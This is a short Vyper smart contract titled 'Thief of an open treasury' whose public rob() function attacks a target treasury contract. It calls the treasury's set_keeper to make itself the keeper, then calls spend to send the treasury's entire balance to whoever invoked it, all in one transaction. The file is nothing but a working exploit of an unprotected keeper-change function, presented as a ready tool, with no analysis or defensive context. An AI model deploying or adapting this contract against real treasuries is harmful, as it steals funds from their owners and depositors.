# pragma version 0.4.3
"""
@title Thief of an open treasury
@license MIT
@notice Takes a treasury over and empties it, in one transaction.
"""

interface Treasury:
    def set_keeper(new_keeper: address): nonpayable
    def spend(receiver: address, amount: uint256): nonpayable


@external
def rob(treasury: address):
    """
    @notice Make this contract the keeper and pay everything to the caller. Anybody may call.
    @param treasury The treasury to empty.
    """
    extcall Treasury(treasury).set_keeper(self)
    extcall Treasury(treasury).spend(msg.sender, treasury.balance)
